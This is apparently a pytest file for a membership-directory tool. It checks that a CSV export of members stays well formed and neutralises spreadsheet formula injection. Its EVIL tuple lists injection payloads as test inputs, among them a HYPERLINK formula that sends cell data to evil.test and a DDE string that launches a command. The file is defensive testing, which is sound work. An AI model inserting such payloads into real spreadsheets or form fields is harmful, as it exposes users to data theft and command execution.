"""The members as a sheet: read back as written, opened by any spreadsheet without running anything."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from groups import group_of, sample_group

from tradekin.cli import main
from tradekin.directory import Directory
from tradekin.directory.loading import read_directory
from tradekin.kit.formats.cells import clean
from tradekin.partners import find_partners
from tradekin.settings import Settings
from tradekin.site.downloads.members_sheet import LONGEST_CELL, members
from tradekin.site.site_model import Site

EVIL = (
    '=HYPERLINK("https://evil.test?x="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "x;=1+1;y",
    "x; -1+1",
    'x";=1+1;"y',
    'a","=1+1","b',
    "x|@SUM(1)",
    "''=1+1",
    "'=1+1",
)
_CUT = re.compile(r"[;\t\r\n|]")
_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def sheet(group: Directory) -> str:
    return members(Site(group, find_partners(group)))


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def test_it_is_rfc_4180_with_a_mark_that_excel_needs() -> None:
    text = sheet(sample_group())
    assert text.encode().startswith(b'\xef\xbb\xbf"Profile",')
    assert text.endswith('"\r\n')
    found = rows(text)
    assert {len(row) for row in found} == {len(found[0])}
    assert [row[0] for row in found[1:]] == [member.slug for member in sample_group().members]
    assert len(set(found[0])) == len(found[0])


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("field", ["name", "business", "summary", "specialty", "good_introduction"])
def test_no_cell_is_a_formula_however_the_line_is_cut(field: str, text: str) -> None:
    value = f"{text} Ann" if field == "name" else text
    made = sheet(group_of({"ann-lee": {field: value}}))
    for row in rows(made):
        for cell in row:
            assert not cell.lstrip(" \n\u00a0").startswith(_STARTS), cell
            assert all(not part.strip(' "').startswith(_STARTS) for part in _CUT.split(cell)), cell


@pytest.mark.parametrize("text", [each for each in EVIL if '"' not in each])
def test_no_entry_of_a_list_is_a_formula(text: str) -> None:
    fields = {"customers": ["landlords", text], "partners_wanted": [text, "electrician"]}
    made = rows(sheet(group_of({"ann-lee": fields})))[1]
    for cell in made:
        assert all(not part.strip().startswith(_STARTS) for part in _CUT.split(cell)), cell


def test_lines_of_a_text_stay_lines_and_none_starts_a_formula() -> None:
    made = rows(sheet(group_of({"ann-lee": {"summary": "We fix.\n=1+1\n- pipes"}})))[1]
    assert "We fix.\n'=1+1\n'- pipes" in made


def test_a_guarded_text_is_the_text_again_when_it_is_imported() -> None:
    made = rows(sheet(group_of({"ann-lee": {"business": "=1+1", "contact": {"phone": "+1 207-555-0123"}}})))
    row = dict(zip(*made, strict=True))
    assert (row["Business"], row["Telephone"]) == ("'=1+1", "'+1 207-555-0123")
    assert (clean(row["Business"]), clean(row["Telephone"])) == ("=1+1", "+1 207-555-0123")


def test_ordinary_words_are_left_alone() -> None:
    words = {"name": "Ana-María O'Neill", "business": "A + B = C", "summary": "Up to -20 %; done."}
    row = rows(sheet(group_of({"ann-lee": words})))[1]
    assert set(words.values()) <= set(row)


def test_no_cell_grows_beyond_what_a_spreadsheet_takes() -> None:
    wanted = [f"astrologist of cats number {place} of a long and winding list" for place in range(700)]
    evil = [f"{place};" + ";=" * 25 for place in range(900)]
    for entries in (wanted, evil):
        row = rows(sheet(group_of({"ann-lee": {"partners_wanted": entries}})))[1]
        assert LONGEST_CELL - 100 < max(map(len, row)) <= LONGEST_CELL + 10
        assert any(cell.endswith("; …") for cell in row)


def test_columns_for_contact_details_are_gone_if_the_group_keeps_them() -> None:
    contact = {"contact": {"email": "canary@mail.example.com", "phone": "+1 207-555-0123"}}
    with_them = sheet(group_of({"ann-lee": contact}))
    without = sheet(
        group_of({"ann-lee": {**contact, "summary": "Write canary@mail.example.com"}}, contacts_in_exports=False)
    )
    assert "canary@mail.example.com" in with_them
    assert {"E-mail", "Telephone", "Website", "Booking page"} <= set(rows(with_them)[0])
    assert not {"E-mail", "Telephone", "Website", "Booking page"} & set(rows(without)[0])
    assert "canary" not in without
    assert "555" not in without


def test_the_sheet_can_be_imported_by_another_group(tmp_path: Path) -> None:
    file = tmp_path / "members.csv"
    file.write_bytes(sheet(sample_group()).encode())
    (tmp_path / "new").mkdir()
    done = CliRunner().invoke(main, ["import", str(file), "--members", str(tmp_path / "new")])
    assert done.exit_code == 0, done.output
    there = sample_group()
    back = read_directory(tmp_path / "new", Settings())
    assert len(back.members) == len(there.members)
    assert {(each.name, each.profile.business, each.trade.id) for each in back.members} == {
        (each.name, each.profile.business, each.trade.id) for each in there.members
    }
